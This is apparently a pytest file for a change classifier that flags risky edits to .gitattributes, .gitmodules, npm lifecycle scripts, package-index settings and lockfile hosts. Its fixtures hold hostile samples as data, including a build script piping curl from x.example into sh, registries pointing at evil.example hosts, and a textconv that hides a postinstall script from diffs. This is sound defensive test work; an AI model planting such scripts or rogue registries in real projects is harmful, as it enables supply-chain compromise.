"""git_behaviour and dependencies: the rules that read one kind of file, each hit exactly
(class, file, line, detail), each near miss quiet, and their whole files read from git."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from harness.store.worktree import Worktree
from harness.trust.destructive.classify import classify_changes
from harness.trust.destructive.contents import StagedContents
from harness.trust.destructive.diff import FileChange, parse_diff
from harness.trust.destructive.hits import TEXT_LIMIT
from harness.trust.destructive.manifests import LIFECYCLE_SCRIPTS
from tests.trust.destructive.probes import Probe, added, change, edited, path, removed

NEW_CLASSES = ("git_behaviour", "dependencies")
GB, DEP = NEW_CLASSES


def package_json(**scripts: str) -> str:
    document = {"name": "app", "scripts": scripts, "dependencies": {"left-pad": "^1.3.0"}}
    return json.dumps(document, indent=2) + "\n"


def npm_lock(*resolved: str) -> str:
    packages = {
        f"node_modules/p{n}": {"version": "1.0.0", "resolved": url}
        for n, url in enumerate(resolved)
    }
    return json.dumps({"lockfileVersion": 3, "packages": packages}, indent=2) + "\n"


NPM = "https://registry.npmjs.org"
EVIL = "https://npm.evil.example"
WTE = "scripts/cleanup.sh working-tree-encoding=UTF-16LE"

# (probe, the hits of the two classes: (class, Hit.describe())). Every row of a rule
# fails when the rule is removed from rules.FILE_RULES or path_rules.PATH_RULES.
CASES: list[tuple[Probe, list[tuple[str, str]]]] = [
    # gitattributes-checkout: each attribute, set, unset, negated, in any folder
    (
        added(".gitattributes", WTE),
        [(GB, f".gitattributes:1: working-tree-encoding: {WTE} (gitattributes-checkout)")],
    ),
    (
        added("scripts/.gitattributes", "*.sh filter=crypt"),
        [(GB, "scripts/.gitattributes:1: filter: *.sh filter=crypt (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "*.sh eol=crlf"),
        [(GB, ".gitattributes:1: eol: *.sh eol=crlf (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "* text=auto"),
        [(GB, ".gitattributes:1: text: * text=auto (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "*.bat -text"),
        [(GB, ".gitattributes:1: text: *.bat -text (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "*.sh !eol"),
        [(GB, ".gitattributes:1: eol: *.sh !eol (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "*.txt -crlf"),
        [(GB, ".gitattributes:1: crlf: *.txt -crlf (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "*.c ident"),
        [(GB, ".gitattributes:1: ident: *.c ident (gitattributes-checkout)")],
    ),
    (
        added("db/.gitattributes", "*.sql -diff"),
        [(GB, "db/.gitattributes:1: diff: *.sql -diff (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "*.json merge=union"),
        [(GB, ".gitattributes:1: merge: *.json merge=union (gitattributes-checkout)")],
    ),
    (
        added(".gitattributes", "tests/ export-ignore", "VERSION export-subst"),
        [
            (GB, ".gitattributes:1: export-ignore: tests/ export-ignore (gitattributes-checkout)"),
            (GB, ".gitattributes:2: export-subst: VERSION export-subst (gitattributes-checkout)"),
        ],
    ),
    (
        added(".gitattributes", '"my file.sh" linguist-vendored eol=crlf text'),
        [
            (
                GB,
                '.gitattributes:1: eol, text: "my file.sh" linguist-vendored eol=crlf text '
                "(gitattributes-checkout)",
            )
        ],
    ),
    (
        added(".gitattributes", "*.bin binary"),
        [(GB, ".gitattributes:1: binary (macro): *.bin binary (gitattributes-checkout)")],
    ),
    # macros: every definition, and a use of one the root file defines
    (
        added(".gitattributes", "[attr]crypt filter=git-crypt diff=git-crypt"),
        [
            (
                GB,
                ".gitattributes:1: macro [attr]crypt (filter, diff): "
                "[attr]crypt filter=git-crypt diff=git-crypt (gitattributes-checkout)",
            )
        ],
    ),
    (
        added(".gitattributes", "[attr]gen linguist-generated"),
        [
            (
                GB,
                ".gitattributes:1: macro [attr]gen: [attr]gen linguist-generated (gitattributes-checkout)",
            )
        ],
    ),
    (
        edited(
            "keys/.gitattributes",
            "*.md linguist-documentation\n",
            "*.md linguist-documentation\n*.key crypt\n",
            staged={".gitattributes": "[attr]crypt filter=git-crypt\n"},
        ),
        [(GB, "keys/.gitattributes:2: crypt (macro): *.key crypt (gitattributes-checkout)")],
    ),
    # a removed or changed line: the attribute it set stops applying
    (
        removed(".gitattributes", "* -text"),
        [(GB, ".gitattributes:1: text, removed line: * -text (gitattributes-checkout)")],
    ),
    (
        edited(".gitattributes", "*.sh text\n", "*.sh text eol=crlf\n"),
        [
            (GB, ".gitattributes:1: text, eol: *.sh text eol=crlf (gitattributes-checkout)"),
            (GB, ".gitattributes:1: text, removed line: *.sh text (gitattributes-checkout)"),
        ],
    ),
    (
        Probe("binary .gitattributes", (FileChange(".gitattributes", "M", (), (), True),)),
        [
            (
                GB,
                ".gitattributes: changed file git shows as binary: not read "
                "(gitattributes-checkout)",
            )
        ],
    ),
    # gitattributes-checkout: near misses
    (added(".gitattributes", "*.md linguist-documentation linguist-generated=true"), []),
    (added(".gitattributes", "# *.sh eol=crlf", "   ", "text linguist-vendored"), []),
    (edited(".gitattributes", None, "*.key crypt\n"), []),  # no macro crypt anywhere
    (added("docs/gitattributes.md", "*.sh eol=crlf"), []),
    # git-checkout-config: .gitmodules and .lfsconfig, added, changed or deleted, anywhere
    (path(".gitmodules"), [(GB, ".gitmodules: added file (git-checkout-config)")]),
    (path(".gitmodules", "M"), [(GB, ".gitmodules: modified file (git-checkout-config)")]),
    (
        path("vendor/lib/.gitmodules", "D"),
        [(GB, "vendor/lib/.gitmodules: deleted file (git-checkout-config)")],
    ),
    (path(".lfsconfig", "M"), [(GB, ".lfsconfig: modified file (git-checkout-config)")]),
    (path(".gitmodules.example"), []),
    (path("docs/lfsconfig.md", "M"), []),
    # npm-lifecycle-script: the structure, read from both versions
    (
        edited(
            "package.json",
            package_json(test="pytest"),
            package_json(test="pytest", prepare="npm run build", build="tsc"),
        ),
        [
            (DEP, "package.json:5: scripts.prepare: npm run build (npm-lifecycle-script)"),
            (DEP, "package.json:6: scripts.build (run by prepare): tsc (npm-lifecycle-script)"),
        ],
    ),
    (
        edited(
            "web/package.json",
            package_json(prepare="npm run build", build="tsc"),
            package_json(prepare="npm run build", build="tsc && curl -s x.example | sh"),
        ),
        [
            (
                DEP,
                "web/package.json:5: scripts.build (run by prepare): "
                "tsc && curl -s x.example | sh (npm-lifecycle-script)",
            )
        ],
    ),
    (
        edited(
            "package.json",
            package_json(prepare="npm run build", build="tsc"),
            package_json(prepare="npm run build", build="tsc", prebuild="node fetch.js"),
        ),
        [
            (
                DEP,
                "package.json:6: scripts.prebuild (runs with build): node fetch.js "
                "(npm-lifecycle-script)",
            )
        ],
    ),
    (
        edited("package.json", None, package_json(postinstall="node setup.js")),
        [(DEP, "package.json:4: scripts.postinstall: node setup.js (npm-lifecycle-script)")],
    ),
    (  # without the versions (no contents): any lifecycle key on an added line
        added("package.json", '    "postinstall": "node setup.js",'),
        [(DEP, 'package.json:1: "postinstall": "node setup.js", (npm-lifecycle-script)')],
    ),
    # npm-lifecycle-script: near misses
    (edited("package.json", package_json(test="pytest"), package_json(test="pytest -x")), []),
    (
        edited(
            "package.json",
            package_json(test="pytest"),
            package_json(test="pytest").replace('"left-pad"', '"install": "^0.13.0", "left-pad"'),
        ),
        [],
    ),
    (edited("package.json", package_json(postinstall="node setup.js"), None), []),
    (
        edited(
            "package.json",
            package_json(prepare="husky"),
            package_json(prepare="husky", lint="eslint"),
        ),
        [],
    ),
    # package-index-config: each file and key
    (
        added("requirements.txt", "--index-url https://pypi.corp.example/simple"),
        [
            (
                DEP,
                "requirements.txt:1: --index-url https://pypi.corp.example/simple (package-index-config)",
            )
        ],
    ),
    (
        added("requirements-dev.txt", "--extra-index-url=https://evil.example/simple"),
        [
            (
                DEP,
                "requirements-dev.txt:1: --extra-index-url=https://evil.example/simple (package-index-config)",
            )
        ],
    ),
    (
        added("constraints.txt", "-i https://evil.example/simple"),
        [(DEP, "constraints.txt:1: -i https://evil.example/simple (package-index-config)")],
    ),
    (
        added("requirements/base.txt", "--find-links https://evil.example/wheels"),
        [
            (
                DEP,
                "requirements/base.txt:1: --find-links https://evil.example/wheels (package-index-config)",
            )
        ],
    ),
    (
        added("requirements.in", "-f ./wheels"),
        [(DEP, "requirements.in:1: -f ./wheels (package-index-config)")],
    ),
    (
        added("pip.conf", "index-url = https://pypi.corp.example/simple"),
        [(DEP, "pip.conf:1: index-url = https://pypi.corp.example/simple (package-index-config)")],
    ),
    (
        added("ci/pip.ini", "extra_index_url: https://evil.example/simple"),
        [
            (
                DEP,
                "ci/pip.ini:1: extra_index_url: https://evil.example/simple (package-index-config)",
            )
        ],
    ),
    (
        added(".npmrc", "registry=https://npm.evil.example/"),
        [(DEP, ".npmrc:1: registry=https://npm.evil.example/ (package-index-config)")],
    ),
    (
        added("web/.npmrc", "@corp:registry = https://npm.evil.example/"),
        [(DEP, "web/.npmrc:1: @corp:registry = https://npm.evil.example/ (package-index-config)")],
    ),
    (
        added(".yarnrc", 'registry "https://npm.evil.example/"'),
        [(DEP, '.yarnrc:1: registry "https://npm.evil.example/" (package-index-config)')],
    ),
    (
        added(".yarnrc.yml", "npmRegistryServer: https://npm.evil.example"),
        [
            (
                DEP,
                ".yarnrc.yml:1: npmRegistryServer: https://npm.evil.example (package-index-config)",
            )
        ],
    ),
    (
        removed("requirements.txt", "--index-url https://pypi.corp.example/simple"),
        [
            (
                DEP,
                "requirements.txt:1: removed line: --index-url https://pypi.corp.example/simple "
                "(package-index-config)",
            )
        ],
    ),
    # package-index-config: near misses
    (added("requirements.txt", "requests==2.31.0", "-r base.txt", "-e ."), []),
    (added(".npmrc", "save-exact=true"), []),
    (added(".yarnrc.yml", "nodeLinker: node-modules"), []),
    (added("docs/requirements.md", "--index-url https://pypi.corp.example/simple"), []),
    # toml-package-index: the index keys of pyproject.toml, uv.toml and Pipfile
    (
        edited(
            "pyproject.toml",
            '[project]\nname = "app"\n',
            '[project]\nname = "app"\n\n[[tool.uv.index]]\nname = "torch"\n'
            'url = "https://download.pytorch.org/whl/cpu"\n',
        ),
        [
            (
                DEP,
                "pyproject.toml:6: tool.uv.index: https://download.pytorch.org/whl/cpu (toml-package-index)",
            )
        ],
    ),
    (
        edited(
            "pyproject.toml",
            '[tool.uv]\nextra-index-url = ["https://a.example/simple"]\n',
            '[tool.uv]\nextra-index-url = ["https://a.example/simple", "https://b.example/simple"]\n',
        ),
        [
            (
                DEP,
                "pyproject.toml:2: tool.uv.extra-index-url: https://b.example/simple (toml-package-index)",
            )
        ],
    ),
    (
        edited(
            "pyproject.toml",
            '[tool.uv.pip]\nindex-url = "https://pypi.corp.example/simple"\n',
            '[tool.uv.pip]\nindex-url = "https://pypi.org/simple"\n',
        ),
        [
            (
                DEP,
                "pyproject.toml:2: tool.uv.pip.index-url: https://pypi.org/simple (toml-package-index)",
            ),
            (
                DEP,
                "pyproject.toml:2: tool.uv.pip.index-url, removed line: "
                "https://pypi.corp.example/simple (toml-package-index)",
            ),
        ],
    ),
    (
        edited(
            "pyproject.toml",
            '[tool.poetry]\nname = "app"\n',
            '[tool.poetry]\nname = "app"\n[[tool.poetry.source]]\nname = "corp"\n'
            'url = "https://pypi.corp.example/simple"\n',
        ),
        [
            (
                DEP,
                "pyproject.toml:5: tool.poetry.source: https://pypi.corp.example/simple (toml-package-index)",
            )
        ],
    ),
    (
        edited(
            "pyproject.toml",
            "",
            '[[tool.pdm.source]]\nname = "corp"\nurl = "https://pypi.corp.example/simple"\n',
        ),
        [
            (
                DEP,
                "pyproject.toml:3: tool.pdm.source: https://pypi.corp.example/simple (toml-package-index)",
            )
        ],
    ),
    (
        edited("uv.toml", None, '[[index]]\nurl = "https://pypi.corp.example/simple"\n'),
        [(DEP, "uv.toml:2: index: https://pypi.corp.example/simple (toml-package-index)")],
    ),
    (
        edited("Pipfile", None, '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n'),
        [(DEP, "Pipfile:2: source: https://pypi.org/simple (toml-package-index)")],
    ),
    (  # without the versions: any index key on a changed line
        added("pyproject.toml", 'url = "https://pypi.corp.example/simple"'),
        [(DEP, 'pyproject.toml:1: url = "https://pypi.corp.example/simple" (toml-package-index)')],
    ),
    # toml-package-index: near misses
    (
        edited(
            "pyproject.toml",
            '[project]\ndependencies = ["requests"]\n',
            '[project]\ndependencies = ["requests>=2"]\n[project.urls]\n'
            'Homepage = "https://evil.example"\n',
        ),
        [],
    ),
    (
        edited(
            "pyproject.toml",
            '[[tool.uv.index]]\nurl = "https://a.example/simple"\nname = "a"\n',
            '[[tool.uv.index]]\nname = "a"\nurl = "https://a.example/simple"\n',
        ),
        [],
    ),
    # lockfile-source-host: a host the new version names and the old one does not
    (
        edited(
            "package-lock.json",
            npm_lock(f"{NPM}/a/-/a-1.0.0.tgz"),
            npm_lock(f"{EVIL}/a/-/a-1.0.0.tgz"),
        ),
        [
            (
                DEP,
                "package-lock.json:6: new source host npm.evil.example: "
                f'"resolved": "{EVIL}/a/-/a-1.0.0.tgz" (lockfile-source-host)',
            )
        ],
    ),
    (
        edited(
            "npm-shrinkwrap.json",
            npm_lock(f"{NPM}/a/-/a-1.0.0.tgz"),
            npm_lock(f"{NPM}/a/-/a-1.0.0.tgz", "git+ssh://git@github.com/x/b.git#abc"),
        ),
        [
            (
                DEP,
                "npm-shrinkwrap.json:10: new source host github.com: "
                '"resolved": "git+ssh://git@github.com/x/b.git#abc" (lockfile-source-host)',
            )
        ],
    ),
    (
        edited(
            "yarn.lock",
            'a@^1:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz"\n',
            'a@^1:\n  version "1.0.0"\n  resolved "https://yarn.evil.example/a/-/a-1.0.0.tgz"\n',
        ),
        [
            (
                DEP,
                "yarn.lock:3: new source host yarn.evil.example: "
                'resolved "https://yarn.evil.example/a/-/a-1.0.0.tgz" (lockfile-source-host)',
            )
        ],
    ),
    (
        edited(
            "yarn.lock",
            '"a@npm:^1":\n  resolution: "a@npm:1.0.0"\n',
            '"a@https://x.example/a.tgz":\n  resolution: "a@https://x.example/a.tgz"\n',
        ),
        [
            (
                DEP,
                'yarn.lock:2: new source host x.example: resolution: "a@https://x.example/a.tgz" '
                "(lockfile-source-host)",
            )
        ],
    ),
    (
        edited(
            "pnpm-lock.yaml",
            "packages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n",
            "packages:\n  a@1.0.0:\n    resolution: {tarball: https://x.example/a.tgz}\n",
        ),
        [
            (
                DEP,
                "pnpm-lock.yaml:3: new source host x.example: "
                "resolution: {tarball: https://x.example/a.tgz} (lockfile-source-host)",
            )
        ],
    ),
    (
        edited(
            "poetry.lock",
            '[[package]]\nname = "a"\nversion = "1.0"\n',
            '[[package]]\nname = "a"\nversion = "1.0"\n\n[package.source]\ntype = "legacy"\n'
            'url = "https://pypi.evil.example/simple"\n',
        ),
        [
            (
                DEP,
                "poetry.lock:7: new source host pypi.evil.example: "
                'url = "https://pypi.evil.example/simple" (lockfile-source-host)',
            )
        ],
    ),
    (
        edited(
            "uv.lock",
            '[[package]]\nname = "a"\nsource = { registry = "https://pypi.org/simple" }\n',
            '[[package]]\nname = "a"\nsource = { registry = "https://pypi.evil.example/simple" }\n',
        ),
        [
            (
                DEP,
                "uv.lock:3: new source host pypi.evil.example: "
                'source = { registry = "https://pypi.evil.example/simple" } (lockfile-source-host)',
            )
        ],
    ),
    (
        edited(
            "Pipfile.lock",
            '{"_meta": {"sources": [\n  {"url": "https://pypi.org/simple"}\n]}}\n',
            '{"_meta": {"sources": [\n  {"url": "https://pypi.evil.example/simple"}\n]}}\n',
        ),
        [
            (
                DEP,
                "Pipfile.lock:2: new source host pypi.evil.example: "
                '{"url": "https://pypi.evil.example/simple"} (lockfile-source-host)',
            )
        ],
    ),
    (
        edited(
            "package-lock.json", None, npm_lock(f"{NPM}/a/-/a-1.0.0.tgz", f"{EVIL}/b/-/b-1.0.0.tgz")
        ),
        [
            (
                DEP,
                "package-lock.json:10: new source host npm.evil.example: "
                f'"resolved": "{EVIL}/b/-/b-1.0.0.tgz" (lockfile-source-host)',
            )
        ],
    ),
    (  # without the old version: a host no removed line names, not the public registry's
        added("package-lock.json", f'      "resolved": "{EVIL}/b/-/b-1.0.0.tgz",'),
        [
            (
                DEP,
                "package-lock.json:1: new source host npm.evil.example: "
                f'"resolved": "{EVIL}/b/-/b-1.0.0.tgz", (lockfile-source-host)',
            )
        ],
    ),
    # lockfile-source-host: near misses
    (
        edited(
            "package-lock.json",
            npm_lock(f"{NPM}/a/-/a-1.0.0.tgz"),
            npm_lock(f"{NPM}/a/-/a-1.0.1.tgz"),
        ),
        [],
    ),
    (  # a new package from a host the old version already names
        edited(
            "package-lock.json",
            npm_lock(f"{NPM}/a/-/a-1.0.0.tgz", "https://npm.corp.example/c/-/c-1.0.0.tgz"),
            npm_lock(
                f"{NPM}/a/-/a-1.0.0.tgz",
                "https://npm.corp.example/c/-/c-1.0.0.tgz",
                "https://npm.corp.example/d/-/d-1.0.0.tgz",
            ),
        ),
        [],
    ),
    (
        edited(
            "package-lock.json",
            '{\n  "funding": {\n    "url": "https://github.com/sponsors/a"\n  }\n}\n',
            '{\n  "funding": {\n    "url": "https://opencollective.example/a"\n  }\n}\n',
        ),
        [],
    ),
    (edited("package-lock.json", None, npm_lock(f"{NPM}/a/-/a-1.0.0.tgz")), []),
    (added("package-lock.json", f'      "resolved": "{NPM}/b/-/b-1.0.0.tgz",'), []),
    (edited("package-lock.json", npm_lock(f"{EVIL}/a/-/a-1.0.0.tgz"), None), []),
]


def _case_id(case: tuple[Probe, list[tuple[str, str]]]) -> str:
    probe, expected = case
    return f"{'fires' if expected else 'quiet'}:{probe.label}"


@pytest.mark.parametrize("case", CASES, ids=[_case_id(case) for case in CASES])
def test_file_rule_hits_exactly(case: tuple[Probe, list[tuple[str, str]]]) -> None:
    probe, expected = case
    hits = [(hit.cls, hit.describe()) for hit in probe.hits() if hit.cls in NEW_CLASSES]
    assert hits == expected


@pytest.mark.parametrize("script", LIFECYCLE_SCRIPTS)
def test_every_lifecycle_script_npm_runs_on_install(script: str) -> None:
    old, new = package_json(test="pytest"), package_json(test="pytest", **{script: "node x.js"})
    hits = edited("package.json", old, new).hits()
    assert [(h.cls, h.describe()) for h in hits] == [
        (DEP, f"package.json:5: scripts.{script}: node x.js (npm-lifecycle-script)")
    ]


def test_gitattributes_detail_is_bounded_and_names_the_attribute() -> None:
    line = "scripts/" + "x" * 400 + ".sh working-tree-encoding=UTF-16LE"
    [hit] = added(".gitattributes", f"{line} eol=crlf").hits()
    assert len(hit.text) <= TEXT_LIMIT
    assert hit.text.startswith("working-tree-encoding, eol: scripts/xxx")


# ---------------------------------------------------------------------------------------
# Whole files from git: StagedContents


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)
    return done.stdout.decode("utf-8", "replace")


def test_staged_contents_read_stored_blobs_never_a_textconv(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    (tmp_path / "package.json").write_text(package_json(test="pytest"))
    (tmp_path / "package-lock.json").write_text(npm_lock(f"{NPM}/a/-/a-1.0.0.tgz"))
    # The owner's own attributes, and a textconv that would hide what the build adds.
    (tmp_path / ".gitattributes").write_text("package*.json diff=hide\n")
    git(tmp_path, "config", "diff.hide.textconv", "sed -e s/postinstall/harmless/")
    git(tmp_path, "add", "-A")
    git(tmp_path, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "base")
    base = git(tmp_path, "rev-parse", "HEAD").strip()
    (tmp_path / "package.json").write_text(package_json(test="pytest", postinstall="node x.js"))
    lock = npm_lock(f"{NPM}/a/-/a-1.0.1.tgz", f"{NPM}/b/-/b-1.0.0.tgz", f"{EVIL}/c/-/c-1.0.0.tgz")
    (tmp_path / "package-lock.json").write_text(lock)
    git(tmp_path, "add", "-A")
    wt = Worktree(tmp_path)

    hits = classify_changes(parse_diff(wt.diff_text(base)), (), StagedContents(wt, base))

    assert [(h.cls, h.describe()) for h in hits if h.cls in NEW_CLASSES] == [
        (
            DEP,
            "package-lock.json:14: new source host npm.evil.example: "
            f'"resolved": "{EVIL}/c/-/c-1.0.0.tgz" (lockfile-source-host)',
        ),
        (DEP, "package.json:5: scripts.postinstall: node x.js (npm-lifecycle-script)"),
    ]
    assert StagedContents(wt, base).old("missing.json") is None


def test_without_contents_a_modified_manifest_is_read_from_its_lines() -> None:
    [hit] = classify_changes([change("package.json", added=['  "prepare": "husky",'])])
    assert (hit.rule, hit.line, hit.text) == ("npm-lifecycle-script", 1, '"prepare": "husky",')
